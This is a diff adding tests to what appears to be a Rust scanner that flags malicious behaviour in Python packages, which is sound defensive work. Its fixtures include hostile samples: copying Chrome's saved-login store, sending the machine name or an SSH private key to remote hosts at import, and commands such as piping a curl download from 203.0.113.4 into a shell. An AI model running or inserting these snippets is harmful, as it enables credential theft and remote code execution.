@@ -528,6 +528,15 @@ fn credential_stores_are_judged_by_what_the_file_does_with_them() {
                    shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')\n\
                    def ping(url):\n    return urllib.request.urlopen(url)\n";
     assert_eq!(worst(browser), Some(Severity::High));
+    // Whether a profile has its store tests paths; opening one reads it.
+    let tested = browser.replace(
+        "shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')",
+        "stores = [os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', d, 'Login Data') for d in ('Default', 'Profile 1')]\n    \
+         return any(os.path.exists(p) for p in stores)",
+    );
+    assert_eq!(worst(&tested), None, "{tested}");
+    let opened = tested.replace("any(os.path.exists(p) for p in stores)", "any(open(p, 'rb').read(4) for p in stores)");
+    assert_eq!(worst(&opened), Some(Severity::High), "{opened}");
     // A message that names a store opens nothing.
     let warned = "import warnings, requests\ndef key():\n    warnings.warn('the secret is in the OS keychain')\n\
                   def ping(url):\n    return requests.get(url)\n";
@@ -953,6 +962,9 @@ fn a_programs_entry_runs_when_someone_runs_it() {
     let tool = "import os, shutil\ndef clean():\n    shutil.rmtree(os.path.expanduser('~/Documents/out'))\n";
     let guarded = format!("{tool}if __name__ == '__main__':\n    clean()\n");
     assert_eq!(finding("pkg/tool.py", &guarded).severity, Severity::Medium);
+    // The test in parentheses is the same entry.
+    let parenthesised = format!("{tool}if (__name__ == \"__main__\"):\n    clean()\n");
+    assert_eq!(finding("pkg/tool.py", &parenthesised).severity, Severity::Medium);
     assert_eq!(finding("pkg/__main__.py", &format!("{tool}clean()\n")).severity, Severity::Medium);
     // Called at module level of an ordinary module: at import, high.
     let f = finding("pkg/tool.py", &format!("{tool}clean()\n"));
@@ -983,6 +995,10 @@ fn system_tools_are_hostile_in_their_attack_forms_only() {
         "regsvr32 /s RevitAddin.dll",
         "powershell -ExecutionPolicy Bypass -File .\\export.ps1",
         "nohup ./server &",
+        // A pipe into a longer name, in any case, is no pipe into a shell
+        // (an alternation in a regular expression of pronouns).
+        "grep -E '(He|he|She|she|It|it)$' words.txt",
+        "grep -E '(Shell|Show)' words.txt",
     ] {
         assert!(!hostile(ordinary), "{ordinary}");
     }
@@ -993,6 +1009,7 @@ fn system_tools_are_hostile_in_their_attack_forms_only() {
         "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
         "powershell -w hidden -enc SQBFAFgA",
         "mshta http://203.0.113.4/x.hta",
+        "curl -s http://203.0.113.4/x |SH",
     ] {
         assert!(hostile(attack), "{attack}");
     }
@@ -3619,4 +3636,86 @@ fn a_command_runs_what_its_names_held_then_not_what_they_are_given_later() {
     let nested = "import base64, subprocess\ndef outer(blob):\n    def go():\n        \
                   subprocess.run(cmd, shell=True)\n    cmd = base64.b64decode(blob)\n    go()\n";
     assert!(level(nested).is_some_and(|s| s >= Severity::High), "{nested}");
+}
+
+#[test]
+fn the_platform_a_download_is_built_for_is_not_who_or_where_it_runs() {
+    let rules = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
+    };
+    let beacon = |src: &str| rules(src).into_iter().find(|r| r.0 == "import-beacon" || r.0 == "host-identity-sent");
+    // The operating system and processor pick the build to fetch.
+    let build = "import platform, urllib.request\ninfo = platform.uname()\nsystem = info.system.lower()\n\
+                 url = 'https://downloads.example.org/tool-%s-%s.tar.gz' % (system, info.machine)\n\
+                 urllib.request.urlopen(url)\n";
+    assert_eq!(beacon(build), None, "{build}");
+    // The machine's name (its `node`), or the whole description, says which machine it is.
+    for tell in ["info.node", "info"] {
+        let src = build.replace("info.machine)", &format!("{tell})"));
+        assert!(beacon(&src).is_some_and(|r| r.1 >= Severity::High), "{src}: {:?}", rules(&src));
+    }
+}
+
+#[test]
+fn a_method_of_a_literal_called_while_loading_runs_no_function_of_the_file() {
+    let beacon = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "import-beacon" || f.rule == "host-identity-sent").map(|f| f.rule)
+    };
+    // `ARCH.get(...)` while loading is a dict's `get`, not `Client.get`.
+    let src = "import platform, urllib.request\nARCH = {'x86_64': 'amd64', 'aarch64': 'arm64'}\n\
+               class Client:\n    def get(self):\n        \
+               return urllib.request.urlopen('http://203.0.113.9/?h=' + platform.node())\n\
+               def arch():\n    names = []\n    names.append('x')\n    \
+               return ARCH.get(platform.machine(), names.pop())\nKIND = arch()\n";
+    assert_eq!(beacon(src), Some("host-identity-sent"), "{src}");
+    // A value the file made otherwise may be the file's own client.
+    for other in ["ARCH = Client()\n", "ARCH = make_client()\n"] {
+        let made = src.replace("ARCH = {'x86_64': 'amd64', 'aarch64': 'arm64'}\n", other);
+        assert_eq!(beacon(&made), Some("import-beacon"), "{made}");
+    }
+    // A parameter holds what its callers pass, whatever the function assigns it.
+    let param = src
+        .replace("def arch():\n", "def arch(ARCH):\n    ARCH = ARCH or {}\n")
+        .replace("arch()\n", "arch(Client())\n");
+    assert_eq!(beacon(&param), Some("import-beacon"), "{param}");
+}
+
+#[test]
+fn an_ssh_keys_public_half_sent_to_be_signed_is_no_credential() {
+    let exfiltration = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/ssh.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    let signed = "import os, json, pathlib, urllib.request\nKEY = pathlib.Path(os.path.expanduser('~/.ssh/id_ed25519'))\n\
+                  def sign():\n    public = KEY.with_suffix('.pub').read_text()\n    \
+                  body = json.dumps({'public_key': public}).encode()\n    \
+                  return urllib.request.urlopen(urllib.request.Request('https://ca.example.com/sign', data=body))\n";
+    assert!(exfiltration(signed).is_none_or(|s| s < Severity::High), "{signed}");
+    let appended = signed.replace("KEY.with_suffix('.pub').read_text()", "open(str(KEY) + '.pub').read()");
+    assert!(exfiltration(&appended).is_none_or(|s| s < Severity::High), "{appended}");
+    // The private half is the credential.
+    let private = signed.replace("KEY.with_suffix('.pub').read_text()", "KEY.read_text()");
+    assert_eq!(exfiltration(&private), Some(Severity::Critical), "{private}");
+}
+
+#[test]
+fn a_method_kept_as_the_objects_own_attribute_is_not_run_while_loading() {
+    let beacon = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "import-beacon" || f.rule == "host-identity-sent").map(|f| f.rule)
+    };
+    // A facade made while loading keeps its service's method under a
+    // shorter name, for its users to call.
+    let facade = "import platform, threading, urllib.request\nclass Api:\n    def lookup(self):\n        \
+                  return urllib.request.urlopen('http://203.0.113.9/?h=' + platform.node())\n\
+                  class Facade:\n    def __init__(self):\n        self._api = Api()\n        \
+                  self.lookup = self._api.lookup\nfacade = Facade()\nlookup = facade.lookup\n";
+    assert_eq!(beacon(facade), Some("host-identity-sent"), "{facade}");
+    // Another object's attribute is a hook its owner calls; a thread runs its target.
+    for runs in ["self._api.on_open = self._api.lookup", "threading.Thread(target=self._api.lookup).start()"] {
+        let src = facade.replace("self.lookup = self._api.lookup", runs);
+        assert_eq!(beacon(&src), Some("import-beacon"), "{src}");
+    }
 }
